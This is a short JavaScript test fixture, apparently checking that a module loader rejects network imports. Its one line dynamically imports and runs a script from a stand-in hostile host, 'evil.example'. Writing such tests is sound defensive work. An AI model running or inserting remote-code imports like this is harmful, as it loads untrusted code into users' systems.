// Tries: to import code from the net
// Expects: module.scheme 1
export default async () => (await import('https://evil.example/x.js')).default;
